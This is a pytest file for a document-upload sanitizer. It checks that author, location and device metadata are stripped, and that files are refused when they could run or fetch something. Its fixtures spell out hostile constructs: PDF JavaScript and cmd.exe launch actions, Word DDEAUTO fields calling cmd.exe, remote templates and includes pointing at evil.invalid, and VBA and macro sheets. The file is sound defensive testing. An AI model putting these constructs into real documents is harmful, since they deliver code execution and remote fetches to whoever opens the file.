"""What a file tells beside its content goes when it is kept; what would run or fetch something is refused by name."""

import struct
import zipfile
from io import BytesIO
from pathlib import Path

import olefile
import pikepdf
import pytest
import typst
from docxtpl import DocxTemplate
from openpyxl import Workbook, load_workbook
from pypdf import PdfReader
from tests.documents.conftest import AT, gps_exif, left_behind, picture
from tests.documents.samples import (
    box,
    ebml,
    film,
    office,
    ogg,
    ole,
    pdf,
    relations,
    webm,
    word,
)  # fmt: skip

from huiyin.documents.errors import (
    FileDamaged,
    FileHasMacros,
    FileHasScripts,
    FileLocked,
    FileReachesOut,
    FileRefused,
    FileTypeRefused,
)
from huiyin.documents.letters import default_template
from huiyin.documents.rules import old_office
from huiyin.documents.services import file_open, file_store, images, store, stripping

pytestmark = pytest.mark.django_db

WHO, WHERE = "柳荫镇林某", "+31.2345+121.4747/"
TELLING = (WHO.encode(), WHO.encode("utf-16-le"), WHO.encode("utf-16-be"), WHERE.encode(), b"SpyPhone", b"WHENWHEN")
CORE = f'<?xml version="1.0"?><c xmlns:d="http://d"><d:creator>{WHO}</d:creator></c>'


def _kept(content: bytes, name: str) -> bytes:
    with file_open(file_id=file_store(content=BytesIO(content), name=name, at=AT).id) as file:
        return file.read()


def _tells(content: bytes) -> list[bytes]:
    parts = [content]
    if zipfile.is_zipfile(BytesIO(content)):
        with zipfile.ZipFile(BytesIO(content)) as archive:
            parts += [archive.read(name) for name in archive.namelist()] + [archive.comment]
    if content.startswith(b"%PDF"):
        with pikepdf.open(BytesIO(content)) as opened:
            parts += [repr(item).encode() for item in opened.objects]
            parts += [item.read_raw_bytes() for item in opened.objects if isinstance(item, pikepdf.Stream)]
    return [word for word in TELLING if any(word in part for part in parts)]


PHOTO = picture("JPEG", exif=gps_exif(), comment=WHO.encode())
OFFICE_PARTS: dict[str, str | bytes] = {
    "docProps/core.xml": CORE,
    "docProps/app.xml": CORE,
    "docProps/custom.xml": CORE,
    "docProps/thumbnail.jpeg": PHOTO,
    "word/media/image1.jpeg": PHOTO,
}
ID3 = b"ID3\x03\0\0\0\0\0\x20" + WHO.encode().ljust(32, b"\0")
FRAMES = b"\xff\xfb\x90\x64" + bytes(60)
SUMMARY = ("\x05SummaryInformation", "\x05DocumentSummaryInformation")
PLACE_TRACK = box(b"trak", box(b"mdia", box(b"hdlr", bytes(8), b"meta", bytes(12)), WHERE.encode()))

TELLING_FILES = {
    "a.pdf": pdf(
        "pdf.Root.Metadata = pdf.make_stream(pdf.docinfo.Author.unparse() + b'SpyPhone')\n"
        "page.obj.PieceInfo = Dictionary(Who=pdf.docinfo.Author)\n"
        "page.obj.Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Text, Rect=Array([0, 0, 9, 9]),"
        " T=pdf.docinfo.Author, Contents=String('words'))])",
        Author=WHO,
    ),
    "a.docx": office(parts=OFFICE_PARTS),
    "a.xlsx": office("xl/workbook.xml", OFFICE_PARTS),
    "a.pptx": office("ppt/presentation.xml", OFFICE_PARTS),
    "a.doc": ole({"WordDocument": b"", **dict.fromkeys(SUMMARY, WHO.encode())}),
    "a.xls": ole({"Workbook": b"", **dict.fromkeys(SUMMARY, WHO.encode("utf-16-le"))}),
    "a.mp3": ID3 + FRAMES + (b"TAG" + WHO.encode()).ljust(128, b"\0"),
    "a.wav": b"RIFF\x60\0\0\0WAVEfmt \x04\0\0\0ffffLIST\x10\0\0\0" + WHO.encode().ljust(16) + b"data\x04\0\0\0ssss",
    "a.webm": webm(
        ebml(0x4461, bytes(8)),
        ebml(0x7BA9, WHO.encode()),
        ebml(0x5741, b"SpyPhone"),
        of_track=ebml(0x536E, WHO.encode()),
        behind=ebml(0x1254C367, WHO.encode() * 40),
    ),
    "a.ogg": ogg(struct.pack("<L", 8) + b"SpyPhone" + WHO.encode() * 90),
    "a.mp4": film(box(b"udta", box(b"\xa9xyz", WHERE.encode())), box(b"meta", WHO.encode()), PLACE_TRACK),
}


@pytest.mark.parametrize("name", TELLING_FILES)
def test_no_place_author_or_device_is_left(folder: Path, name: str) -> None:
    content = TELLING_FILES[name]
    assert _tells(content)
    kept = _kept(content, name)
    assert _tells(kept) == []


def test_what_it_is_for_stays(folder: Path) -> None:
    assert _kept(TELLING_FILES["a.mp3"], "a.mp3") == FRAMES
    assert b"ffff" in (sound := _kept(TELLING_FILES["a.wav"], "a.wav")) and sound.endswith(b"data\x04\0\0\0ssss")
    for name in ("a.webm", "a.ogg"):
        kept = _kept(TELLING_FILES[name], name)
        assert len(kept) == len(TELLING_FILES[name]) and b"SOUND" in kept
    kept = _kept(TELLING_FILES["a.mp4"], "a.mp4")
    assert len(kept) == len(TELLING_FILES["a.mp4"]) and kept.endswith(box(b"mdat", b"PICTURES"))
    with pikepdf.open(BytesIO(_kept(TELLING_FILES["a.pdf"], "a.pdf"))) as opened:
        assert len(opened.pages) == 1
        (note,) = opened.pages[0].obj.Annots
        assert str(note.Contents) == "words"
    with zipfile.ZipFile(BytesIO(_kept(TELLING_FILES["a.docx"], "a.docx"))) as archive:
        assert archive.testzip() is None
        assert archive.read("word/document.xml") == b"<root/>"
    with olefile.OleFileIO(BytesIO(_kept(TELLING_FILES["a.doc"], "a.doc"))) as container:
        assert container.exists("WordDocument")
        assert container.getproperties(SUMMARY[0]) == {}


def test_a_picture_inside_keeps_its_pixels(folder: Path) -> None:
    with zipfile.ZipFile(BytesIO(_kept(TELLING_FILES["a.docx"], "a.docx"))) as archive:
        bare = archive.read("word/media/image1.jpeg")
    assert b"Exif" not in bare and PHOTO.endswith(bare[-200:])


def test_what_is_signed_is_not_touched(folder: Path) -> None:
    signed = pdf(
        "pdf.Root.Sig = pdf.make_indirect(Dictionary(Type=Name.Sig, ByteRange=Array([0, 1, 2, 3]), Contents=b'x'))",
        Author=WHO,
    )
    assert _kept(signed, "a.pdf") == signed
    paper = office(parts={**OFFICE_PARTS, "_xmlsignatures/sig1.xml": "<x/>"})
    assert _kept(paper, "a.docx") == paper


def _script(action: str) -> bytes:
    return pdf(f"pdf.Root.OpenAction = {action}")


def _attached(name: str, content: str) -> bytes:
    return pdf(f"pdf.attachments['{name}'] = pikepdf.AttachedFileSpec(pdf, {content}, filename='{name}')")


def _field(text: str) -> bytes:
    return office(parts={"word/document.xml": word(text)})


def _slide(element: str) -> bytes:
    return office("ppt/presentation.xml", {"ppt/slides/slide1.xml": f"<p>{element}</p>"})


def _rel(part: str, kind: str, target: str, **more: str) -> bytes:
    return office(parts={part: relations(kind, target, **more)})


DANGEROUS = [
    (_script("Dictionary(S=Name.JavaScript, JS=String('app.alert(1)'))"), FileHasScripts),
    (_script("pdf.make_indirect(Dictionary(S=Name.Launch, F=String('cmd.exe')))"), FileHasScripts),
    (_script("Dictionary(S=Name.URI, Next=Array([Dictionary(S=Name.SubmitForm)]))"), FileHasScripts),
    (pdf("pdf.Root.AcroForm = Dictionary(XFA=Array([]))"), FileHasScripts),
    (pdf("page.obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b'x')))"), FileHasScripts),
    (_attached("run.exe", "b'MZ'"), FileHasScripts),
    (_attached("run.xml", "b'MZ\\x00'"), FileHasScripts),
    (b"%PDF-1.7\n%...", FileDamaged),
    (_rel("word/_rels/settings.xml.rels", "attachedTemplate", "http://evil.invalid/a.dotm"), FileReachesOut),
    (_rel("word/_rels/document.xml.rels", "oleObject", "http://evil.invalid/a"), FileReachesOut),
    (_rel("word/_rels/document.xml.rels", "frame", "http://evil.invalid/a"), FileReachesOut),
    (_rel("word/_rels/document.xml.rels", "image", "file://evil.invalid/a.png"), FileReachesOut),
    (_rel("word/_rels/document.xml.rels", "aFChunk", "a.mht", mode="Internal"), FileHasMacros),
    (_field('<w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/>'), FileReachesOut),
    (_field("<w:instrText>DD</w:instrText><w:r/><w:instrText>EAUTO cmd</w:instrText>"), FileReachesOut),
    (_field("<w:instrText> QUOTE 68 68 69 65 </w:instrText>"), FileReachesOut),
    (_field('<w:fldSimple w:instr=" LINK Excel.Sheet.12 c:\\\\a.xlsx "/>'), FileReachesOut),
    (_field("<w:instrText>DATABASE \\d c:\\a.mdb</w:instrText>"), FileReachesOut),
    (_field('<w:instrText> INCLUDETEXT "\\\\\\\\evil\\\\a" </w:instrText>'), FileReachesOut),
    (_field("<w:instrText> INCLUDETEXT http://evil.invalid/a </w:instrText>"), FileReachesOut),
    (_field("<w:instrText> INCLUDEPICTURE file://evil/a.png </w:instrText>"), FileReachesOut),
    (_field("<w:instrText> INCLUDE</w:instrText><w:r/><w:instrText>TEXT //evil/a</w:instrText>"), FileReachesOut),
    (_slide('<a:hlinkHover xmlns:a="a" action="ppaction://program"/>'), FileHasMacros),
    (_slide('<hlinkClick action="ppaction://macro?name=x"/>'), FileHasMacros),
    (office("xl/workbook.xml", {"xl/externalLinks/externalLink1.xml": "<x><ddeLink/></x>"}), FileReachesOut),
    (office("xl/workbook.xml", {"xl/connections.xml": '<x><connection refreshOnLoad="1"/></x>'}), FileReachesOut),
    (office("xl/workbook.xml", {"xl/macrosheets/sheet1.xml": "<x/>"}), FileHasMacros),
    (office("xl/workbook.xml", types="<Override ContentType='application/macrosheet+xml'/>"), FileHasMacros),
    (office(parts={"word/VBAproject.BIN": "x"}), FileHasMacros),
    (office(parts={"word/embeddings/oleObject1.bin": "\x01Ole10Native".encode("utf-16-le")}), FileHasMacros),
    (office(parts={"word/styles.xml": '<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'}), FileTypeRefused),
    (ole({"WordDocument": b"", "_VBA_PROJECT": b""}), FileHasMacros),
    (ole({"Workbook": b"\x85\x00\x08\x00\0\0\0\0\0\x01\0\0"}), FileHasMacros),
    (ole({"Workbook": b"\x2f\x00\x02\x00\0\0"}), FileLocked),
    (ole({"Workbook": b"\xae\x01\x0a\x00\x01\x00\x05\x00\x00cmd\x03x"}), FileReachesOut),
    (ole({"WordDocument": bytes(600) + b"\x13 DDEAUTO c:\\cmd.exe"}), FileReachesOut),
    (ole({"WordDocument": bytes(600) + b"\x13 QUOTE 68 68 69 65 "}), FileReachesOut),
    (ole({"WordDocument": bytes(600) + "\x13 QUOTE 68 68 69 ".encode("utf-16-le")}), FileReachesOut),
    (ole({"WordDocument": b"", "1Table": "http://evil.invalid/a.dotm".encode("utf-16-le")}), FileReachesOut),
    (ole({"WordDocument": bytes(11) + b"\x01"}), FileLocked),
    (ole({"WordDocument": b"", "\x01Ole10Native": b""}), FileHasMacros),
    (box(b"ftyp", b"isom\0\0\0\0mp41") + b"\0\0\xff\xffmoov", FileDamaged),
]  # fmt: skip


@pytest.mark.parametrize(("content", "refusal"), DANGEROUS)
def test_what_runs_or_fetches_something_is_refused_by_name(
    folder: Path, content: bytes, refusal: type[FileRefused]
) -> None:
    with pytest.raises(refusal) as refused:
        file_store(content=BytesIO(content), name="材料", at=AT)
    assert type(refused.value) is refusal
    assert left_behind(folder) == []


HARMLESS = [
    _attached("invoice.xml", "b'<a/>'"),
    _script("Dictionary(S=Name.URI, URI=String('https://example.invalid/'))"),
    _rel("word/_rels/document.xml.rels", "hyperlink", "https://example.invalid/"),
    _rel("word/_rels/document.xml.rels", "image", "https://example.invalid/a.png"),
    _field("<w:instrText> PAGE </w:instrText><w:t>DDE is a word</w:t>"),
    _field('<w:instrText> INCLUDEPICTURE "https://example.invalid/a.png" </w:instrText>'),
    _field("<w:instrText> HYPERLINK https://example.invalid/ </w:instrText><w:t>LINK //a</w:t>"),
    _slide('<hlinkClick action="ppaction://hlinksldjump"/>'),
    ole({"Workbook": b"\x85\x00\x08\x00\0\0\0\0\0\x00\0\0" + b"\xae\x01\x04\x00\x01\x00\x01\x04"}),
    ole({"WordDocument": bytes(600) + b"\x13 PAGE "}),
]


@pytest.mark.parametrize("content", HARMLESS)
def test_what_only_looks_so_is_kept(folder: Path, content: bytes) -> None:
    assert _kept(content, "材料")


def test_an_old_document_of_countless_streams_is_refused(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(old_office, "_ENTRIES_MOST", 7)
    assert _kept(ole({"WordDocument": b"a", "1Table": b"b", "0Table": b"c"}), "a.doc")
    with pytest.raises(FileTypeRefused):
        _kept(ole({"WordDocument": b"a", **{f"{n}": b"" for n in range(7)}}), "a.doc")


class _Turns:
    """Stands in for the lock: counts, and refuses a second one inside."""

    def __init__(self) -> None:
        self.count, self._inside = 0, False

    def __enter__(self) -> None:
        assert not self._inside
        self._inside, self.count = True, self.count + 1

    def __exit__(self, *_: object) -> None:
        self._inside = False


def test_files_are_looked_through_one_at_a_time(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """To tell what they are, and to copy them: else the threads of a web process add up what each of them takes."""
    for name, content in {**TELLING_FILES, "a.jpg": PHOTO}.items():
        turns = _Turns()
        for module in (store, stripping, images):
            monkeypatch.setattr(module, "heavy_work", turns)
        _kept(content, name)
        # A PDF is copied by a process of its own.
        assert turns.count == (1 if name == "a.pdf" else 2), name


def test_a_packed_file_is_found_wherever_it_lies(folder: Path) -> None:
    """The part is read in pieces; its name may lie across two of them."""
    name = "\x01Ole10Native".encode("utf-16-le")
    parts = {"word/embeddings/a.bin": bytes((1 << 18) - 5) + name + bytes(99)}
    with pytest.raises(FileHasMacros):
        file_store(content=BytesIO(office(parts=parts)), name="a.docx", at=AT)


def test_a_pdf_that_only_forbids_printing_is_kept_and_one_with_a_password_is_not(folder: Path) -> None:
    for user, refused in (("", False), ("geheim", True)):
        buffer = BytesIO()
        with pikepdf.open(BytesIO(pdf(Author=WHO))) as opened:
            opened.save(buffer, encryption=pikepdf.Encryption(owner="besitzer", user=user))
        if refused:
            with pytest.raises(FileLocked):
                _kept(buffer.getvalue(), "a.pdf")
        else:
            assert _tells(_kept(buffer.getvalue(), "a.pdf")) == []


def test_what_real_programs_write_still_opens(folder: Path) -> None:
    """A workbook, a Word document and a tagged PDF as other programs make them."""
    book = Workbook()
    assert book.active is not None
    book.active.append(["电梯", 3])
    book.properties.creator = WHO
    buffer = BytesIO()
    book.save(buffer)
    kept = _kept(buffer.getvalue(), "a.xlsx")
    assert _tells(kept) == []
    opened = load_workbook(BytesIO(kept))
    assert opened.active is not None and opened.active["A1"].value == "电梯"

    kept = _kept(default_template(), "a.docx")
    assert DocxTemplate(BytesIO(kept)).get_docx().paragraphs

    printed = typst.compile(b'#set document(author: "' + WHO.encode() + b'")\n= Title\nwords')
    kept = _kept(printed, "a.pdf")
    assert _tells(kept) == []
    assert "words" in PdfReader(BytesIO(kept)).pages[0].extract_text()
